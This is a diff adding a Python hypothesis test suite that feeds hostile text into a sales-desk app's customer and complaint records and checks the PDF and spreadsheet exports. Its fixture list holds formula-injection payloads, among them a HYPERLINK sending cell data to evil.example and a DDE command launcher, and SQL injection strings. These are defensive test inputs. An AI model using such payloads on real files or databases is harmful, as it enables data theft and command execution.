@@ -1,0 +1,201 @@
+"""Hostile input wherever the registers accept text: 100,000-character pastes, emoji
+and rare CJK (𠀀 U+20000), control characters and NUL, right-to-left text, leading
+= + - @ (formula injection), quotes and SQL metacharacters, markup.
+
+Each value goes save → load → PDF → xlsx. It is either refused with a clear
+message on its field, or stored as ``clean_text`` promises (control characters
+other than tab/newline removed, outer whitespace trimmed — nothing else changed)
+and then loaded back exactly, printed into a PDF that pypdf can read, and
+written into a workbook as plain text: never a formula.
+"""
+from __future__ import annotations
+
+import datetime as dt
+import unicodedata
+from pathlib import Path
+
+import pytest
+from hypothesis import HealthCheck, assume, example, given, settings
+from hypothesis import strategies as st
+from openpyxl import load_workbook
+from pypdf import PdfReader
+
+from salesdesk import complaints, customers
+from salesdesk.errors import ValidationError
+from salesdesk.normalize import _noncharacter, clean_text
+
+NASTY = [
+    "=HYPERLINK(\"http://evil.example/?\"&A1,\"点我\")", "=1+1", "+8613800138000", "-2+3", "@SUM(A1:A9)",
+    "=cmd|' /C calc'!A0", "\t=1+1", "'; DROP TABLE customer; --", "Robert'); DELETE FROM visit;--", "\" OR \"1\"=\"1",
+    "%_\\", "𠀀𠀁𪚥", "👨‍👩‍👧‍👦🙂🏠", "مرحبا بالعالم", "\u202eevil.exe\u202c", "שלום עליכם", "\x00NUL\x00",
+    "\x07\x08\x1b[31mred", "line1\r\nline2\rline3", "<b>bold</b> <para>x</para> &amp; &lt;", "<font name='x'>",
+    "a\u0301e\u0308", "\ufeffBOM", "\u200b\u200d\u2060", "\ud800lone surrogate", "\U000F0000 private use",
+    "张三\n\n\n李四", " leading and trailing ", "", "　全角空格　",
+]
+
+hostile_text = st.one_of(
+    st.sampled_from(NASTY),
+    st.text(alphabet=st.characters(blacklist_categories=()), max_size=60),  # any code point, surrogates too
+    st.lists(st.sampled_from(NASTY), min_size=2, max_size=5).map("".join),
+    st.builds(lambda a, b: a + b, st.sampled_from(["=", "+", "-", "@", "\t=", " ="]), st.text(max_size=20)),
+)
+
+SETTINGS = dict(max_examples=25, deadline=None, derandomize=True,
+                suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow])
+
+
+def expected_stored(value: str) -> str:
+    return clean_text(value, max_len=10**9)
+
+
+def assert_pdf_readable(path: Path, must_contain: str = "") -> str:
+    reader = PdfReader(str(path))
+    assert len(reader.pages) >= 1
+    text = "".join(page.extract_text() or "" for page in reader.pages)
+    if must_contain:
+        assert must_contain in text.replace("\n", "")
+    return text
+
+
+def assert_workbook_plain(path: Path) -> list[list]:
+    wb = load_workbook(path)
+    rows = []
+    for ws in wb.worksheets:
+        for row in ws.iter_rows():
+            for cell in row:
+                assert cell.data_type != "f", f"formula in {ws.title}!{cell.coordinate}: {cell.value!r}"
+            rows.append([c.value for c in row])
+    return rows
+
+
+def assert_refusal_is_clear(exc: ValidationError, fields: set[str]) -> None:
+    assert exc.errors and set(exc.errors) <= fields, exc.errors
+    for message in exc.errors.values():
+        assert message and len(message) > 10 and "Traceback" not in message
+
+
+def printable(text: str) -> str:
+    """The part of ``text`` a PDF text layer can give back for a marker check."""
+    return "".join(ch for ch in text if unicodedata.category(ch)[0] in "LN" and ord(ch) < 0x2E80)
+
+
+# --- customer files ----------------------------------------------------------------------------
+
+CUSTOMER_FIELDS = ("name", "company", "address", "notes", "source", "family", "preferences")
+
+
+@settings(**SETTINGS)
+@given(name=hostile_text, company=hostile_text, notes=hostile_text, address=hostile_text)
+@example(name="=HYPERLINK(\"http://x\",\"y\")", company="+86 SUM", notes="\x00\x01" + "𠀀" * 50, address="@home")
+def test_customer_file_round_trip(ctx, tmp_path_factory, name, company, notes, address):
+    from salesdesk.forms import customer_sheet
+
+    out = tmp_path_factory.mktemp("c")
+    data = {"name": "客户" + name, "company": company, "notes": notes, "address": address}
+    try:
+        c = customers.save_file(None, data, [])
+    except ValidationError as exc:
+        assert_refusal_is_clear(exc, set(CUSTOMER_FIELDS))
+        return
+    loaded = customers.get(c.id)
+    for key, value in data.items():
+        assert getattr(loaded, key) == expected_stored(value), key
+    pdf = customer_sheet.archive_sheet(loaded, out / "sheet.pdf")
+    assert_pdf_readable(pdf, must_contain=loaded.file_no)
+    rows = assert_workbook_plain(customer_sheet.index_xlsx(out / "index.xlsx", [loaded.id]))
+    mine = [r for r in rows if r and r[0] == loaded.file_no]
+    assert mine and mine[0][1] == loaded.name and (mine[0][4] or "") == loaded.company
+
+
+def test_customer_100k_paste_is_refused_clearly_or_kept_whole(ctx, tmp_path):
+    paste = ("<html>客户资料 𠀀 🙂 =SUM(A1) \x00 مرحبا\n" * 3000)[:100_000]
+    with pytest.raises(ValidationError) as err:
+        customers.save_file(None, {"name": "粘贴测试", "notes": paste}, [])
+    assert "notes" in err.value.errors and "too long" in err.value.errors["notes"]
+    # just under the limit: kept whole and printed over several pages
+    long_notes = ("投诉内容很长的一段文字，包含 𠀀 与 emoji 🙂，以及 =SUM(A1)。\n" * 600)[:19_999]
+    c = customers.save_file(None, {"name": "长备注客户", "notes": long_notes}, [])
+    assert customers.get(c.id).notes == long_notes.strip()
+    from salesdesk.forms import customer_sheet
+
+    pdf = customer_sheet.archive_sheet(customers.get(c.id), tmp_path / "long.pdf")
+    assert len(PdfReader(str(pdf)).pages) >= 2
+
+
+@settings(**SETTINGS)
+@given(birthday=st.one_of(st.dates(), st.integers(min_value=-10**12, max_value=10**12), st.floats(allow_nan=True),
+                          st.sampled_from(["0001-01-01", "9999-12-31", "2024-02-30", "1899-12-31", "45000", "-1",
+                                           "2024年13月1日", "明天", "1e308", "NaN", "=TODAY()"]), hostile_text))
+def test_customer_birthday_out_of_range(ctx, birthday):
+    """Dates people and old sheets give: a clear message on the field, or a real past date."""
+    try:
+        c = customers.save_file(None, {"name": "生日测试", "birthday": birthday}, [])
+    except ValidationError as exc:
+        assert_refusal_is_clear(exc, {"birthday"})
+        return
+    stored = customers.get(c.id).birthday
+    assert stored is None or (dt.date(1900, 1, 1) <= stored <= dt.date.today())
+
+
+# --- complaints --------------------------------------------------------------------------------
+
+@settings(**SETTINGS)
+@given(content=hostile_text, demand=hostile_text, complainant=hostile_text, category=hostile_text)
+@example(content="=WEBSERVICE(\"http://x\")", demand="-1+1", complainant="@admin", category="'; --")
+def test_complaint_round_trip(ctx, tmp_path_factory, content, demand, complainant, category):
+    from salesdesk.forms import complaint_report, complaint_sheet
+
+    out = tmp_path_factory.mktemp("t")
+    intake = complaints.Intake(content="投诉：" + content, demand=demand, complainant="张" + complainant,
+                               category=category, channel="phone")
+    try:
+        c = complaints.take(intake)
+    except ValidationError as exc:
+        assert_refusal_is_clear(exc, {"content", "demand", "complainant", "category", "channel"})
+        return
+    loaded = complaints.get(c.number)
+    assert loaded.content == expected_stored(intake.content)
+    assert loaded.demand == expected_stored(demand)
+    assert loaded.complainant == expected_stored(intake.complainant)
+    assert loaded.category == expected_stored(category)
+    pdf = complaint_sheet.write_sheets(out / "case.pdf", [loaded])
+    assert_pdf_readable(pdf, must_contain=loaded.number)
+    today = dt.date.today()
+    rows = assert_workbook_plain(complaint_report.write_register_xlsx(out / "register.xlsx", today, today))
+    mine = [r for r in rows if r and r[0] == loaded.number]
+    assert mine
+    assert mine[0][9] == loaded.content and (mine[0][10] or "") == loaded.demand
+
+
+def test_complaint_100k_paste(ctx, tmp_path):
+    paste = ("客户原话：" + "𠀀🙂 =1+1 \x00 '; DROP TABLE complaint; -- مرحبا " * 4000)[:100_000]
+    with pytest.raises(ValidationError) as err:
+        complaints.take(complaints.Intake(content=paste, complainant="王先生"))
+    assert set(err.value.errors) == {"content"} and "too long" in err.value.errors["content"]
+    text = ("客户反映样板间漏水，要求赔偿。" * 1400)[:19_990]
+    c = complaints.take(complaints.Intake(content=text, complainant="王先生"))
+    from salesdesk.forms import complaint_sheet
+
+    pdf = complaint_sheet.write_sheets(tmp_path / "long.pdf", [complaints.get(c.number)])
+    reader = PdfReader(str(pdf))
+    assert len(reader.pages) >= 3
+    assert "客户反映样板间漏水" in reader.pages[0].extract_text() + reader.pages[1].extract_text()
+
+
+# --- the shared cleaning itself -----------------------------------------------------------------
+
+@settings(max_examples=200, deadline=None, derandomize=True)
+@given(st.text(alphabet=st.characters(blacklist_categories=("Cc", "Cs")).filter(lambda ch: not _noncharacter(ch)), max_size=200))
+def test_clean_text_keeps_every_printable_character(value):
+    """Apart from control characters and outer whitespace, nothing is changed."""
+    assume(value == value.strip())
+    assert clean_text(value) == value
+
+
+@settings(max_examples=200, deadline=None, derandomize=True)
+@given(hostile_text)
+def test_clean_text_output_is_storable_and_printable(value):
+    cleaned = clean_text(value, max_len=10**9)
+    cleaned.encode("utf-8")  # no lone surrogates
+    assert "\x00" not in cleaned and "\r" not in cleaned
+    assert all(ch in "\t\n" or unicodedata.category(ch) != "Cc" for ch in cleaned)
